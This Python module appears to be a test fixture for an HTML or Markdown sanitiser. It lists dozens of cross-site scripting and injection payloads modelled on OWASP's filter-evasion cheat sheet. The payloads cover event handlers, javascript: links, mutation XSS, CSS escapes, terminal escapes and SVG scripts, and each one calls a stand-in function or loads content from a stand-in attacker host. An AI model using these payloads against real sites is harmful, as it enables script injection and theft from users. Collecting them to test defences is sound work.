"""Markup that runs or fetches something wherever a page lets it.

After OWASP's cheat sheet on filter evasion and the families of its testing guide.
Each calls `stoveAttack()` or asks https://stove-attack.example for something.
"""

RUN = "stoveAttack()"
AWAY = "https://stove-attack.example"

HTML = {
    "script": f"<script>{RUN}</script>",
    "script from elsewhere": f'<script src="{AWAY}/x.js"></script>',
    "script in upper case": f"<ScRiPt>{RUN}</sCrIpT>",
    "script in a script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "module": f'<script type="module">import "{AWAY}/x.js"</script>',
    "onerror": f"<img src=x onerror={RUN}>",
    "onerror without spaces": f"<img/src=x/onerror={RUN}>",
    "onerror on a data picture": f'<img src="data:image/png;base64,x" onerror="{RUN}">',
    "onload of svg": f"<svg onload={RUN}></svg>",
    "script in svg": f"<svg><script>{RUN}</script></svg>",
    "svg with foreignObject": (
        f"<svg><foreignObject><body onload={RUN}></body></foreignObject></svg>"
    ),
    "svg animation": (
        f'<svg><a><animate attributeName=href values="javascript:{RUN}"/>'
        "<text y=20>x</text></a></svg>"
    ),
    "svg use": f'<svg><use href="{AWAY}/x.svg#a"/></svg>',
    "svg image": f'<svg><image href="{AWAY}/x.png"/></svg>',
    "javascript link": f'<a href="javascript:{RUN}">x</a>',
    "javascript link in entities": f'<a href="&#106;avascript&colon;{RUN}">x</a>',
    "javascript link with a tab": f'<a href="java\tscript:{RUN}">x</a>',
    "data link": f'<a href="data:text/html,<script>{RUN}</script>">x</a>',
    "ping": f'<a href="#a" ping="{AWAY}/p">x</a>',
    "iframe": f'<iframe src="{AWAY}/"></iframe>',
    "iframe with srcdoc": f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    "javascript iframe": f"<iframe src=javascript:{RUN}></iframe>",
    "object": f'<object data="{AWAY}/x.swf"></object>',
    "embed": f'<embed src="{AWAY}/x.swf">',
    "applet": f'<applet codebase="{AWAY}"></applet>',
    "style element": f"<style>@import '{AWAY}/x.css';body{{display:none}}</style>",
    "link element": f'<link rel=stylesheet href="{AWAY}/x.css">',
    "prefetch": f'<link rel=dns-prefetch href="{AWAY}">',
    "style with an address": f'<p style="background:url({AWAY}/x.png)">x</p>',
    "style with an escape": f'<p style="background:u\\72l({AWAY}/x.png)">x</p>',
    "style with a comment": f'<p style="background-image:u/**/rl({AWAY}/x)">x</p>',
    "style with image-set": f"<p style=\"list-style:image-set('{AWAY}/x' 1x)\">x</p>",
    "cursor": f'<p style="cursor:url({AWAY}/x.cur),auto">x</p>',
    "expression": f'<p style="width:expression({RUN})">x</p>',
    "behaviour": f'<p style="behavior:url({AWAY}/x.htc)">x</p>',
    "cover of the page": (
        '<p style="position:fixed;inset:0;z-index:9999;opacity:0" id="cover">x</p>'
    ),
    "form": f'<form action="{AWAY}/"><input name=p autofocus onfocus={RUN}></form>',
    "button": f'<form><button formaction="javascript:{RUN}">x</button></form>',
    "input": f'<input type=image src="{AWAY}/x.png" onerror={RUN}>',
    "meta refresh": f'<meta http-equiv=refresh content="0;url={AWAY}/">',
    "base": f'<base href="{AWAY}/">',
    "ontoggle": f"<details open ontoggle={RUN}><summary>x</summary></details>",
    "onfocus": f'<p tabindex=1 autofocus onfocus="{RUN}">x</p>',
    "onanimation": f'<p style="animation:x" onanimationstart="{RUN}">x</p>',
    "body": f'<body onload="{RUN}" background="{AWAY}/x.png">x</body>',
    "video": f'<video src="{AWAY}/x" poster="{AWAY}/x.png" onerror={RUN}></video>',
    "audio": f"<audio src=x onerror={RUN}></audio>",
    "picture": f'<picture><source srcset="{AWAY}/x.png"><img alt=x></picture>',
    "srcset": f'<img srcset="{AWAY}/x.png 2x" alt="x">',
    "remote picture": f'<img src="{AWAY}/x.png" alt="x">',
    "picture without a scheme": '<img src="//stove-attack.example/x.png" alt="x">',
    "svg with a script, embedded": (
        '<img alt="x" src="data:image/svg+xml;base64,'
        "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0ic3RvdmVB"
        'dHRhY2soKSI+PC9zdmc+">'
    ),
    "table with a background": f'<table background="{AWAY}/x"><td>x</td></table>',
    "mathml": (
        "<math><mtext><mglyph><style><img src=x "
        f"onerror={RUN}></style></mglyph></mtext></math>"
    ),
    "mutation by noscript": (
        f'<noscript><p title="</noscript><img src=x onerror={RUN}>">'
    ),
    "mutation by template": f"<template><img src=x onerror={RUN}></template>",
    "mutation by svg and style": (
        f'<svg></p><style><a id="</style><img src=x onerror={RUN}>"></svg>'
    ),
    "mutation by comment": f"<!--><img src=x onerror={RUN}>-->",
    "mutation by title": f"<title><p title='</title><img src=x onerror={RUN}>'>",
    "mutation by textarea": f"<textarea></textarea><img src=x onerror={RUN}>",
    "mutation by cdata": f"<![CDATA[<img src=x onerror={RUN}>]]>",
    "mutation by select": f"<select><iframe></select><img src=x onerror={RUN}>",
    "end of everything": f"</code></pre></div></main></body><script>{RUN}</script>",
    "plaintext": f"<plaintext><img src=x onerror={RUN}>",
    "null bytes": f"<scr\0ipt>{RUN}</scr\0ipt><img src=x one\0rror={RUN}>",
    "unclosed tag": f'<img src="x" onerror="{RUN}"',
    "quotes in an attribute": f"<p title='\"><script>{RUN}</script>'>x</p>",
    "custom element": f'<stove-card is="script" onclick="{RUN}">x</stove-card>',
    "xlink": f'<math href="javascript:{RUN}">x</math>',
    "clobbered names": (
        '<img name="body" id="points" alt=""><form id="location"></form>'
    ),
}
MARKDOWN = {
    "link": f"[x](javascript:{RUN})",
    "link in entities": f"[x](&#106;avascript:{RUN})",
    "link with a title": f'[x](javascript:{RUN} "title")',
    "data link": f"[x](data:text/html,<script>{RUN}</script>)",
    "reference": f"[x][1]\n\n[1]: javascript:{RUN}",
    "address": f"<javascript:{RUN}>",
    "remote picture": f"![x]({AWAY}/x.png)",
    "remote link": f"[x]({AWAY}/x)",
    "picture that breaks out": f'![x"onerror="{RUN}]({AWAY}/x"onerror="{RUN})',
    "link that breaks out": f'[x]({AWAY}/"onmouseover="{RUN})',
    "alt that breaks out": f'![a" onerror="{RUN}](attachment:x.png)',
    "fence": f'```"><script>{RUN}</script>\n<script>{RUN}</script>\n```',
    "code": f"`<script>{RUN}</script>`",
    "tex": f"$\\href{{javascript:{RUN}}}{{x}}$ $$</code><script>{RUN}</script>$$",
    "html in a table": f"|a|\n|-|\n|<img src=x onerror={RUN}>|",
}
TEXTS = {
    "ansi": f"\x1b[31m<script>{RUN}</script>\x1b[0m",
    "ansi that hides": f"\x1b[38;5;1;<img src=x onerror={RUN}>m",
    "link of a terminal": f"\x1b]8;;javascript:{RUN}\x07x\x1b]8;;\x07",
    "surrogate": f"\ud800<script>{RUN}</script>",
    "other direction": f"\u202e<script>{RUN}</script>",
}
SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}" width="20" height="20">'
    f'<script>{RUN}</script><image href="{AWAY}/x.png"/><style>@import "{AWAY}/x.css"'
    '</style><rect width="20" height="20" fill="#0072B2"/></svg>'
)
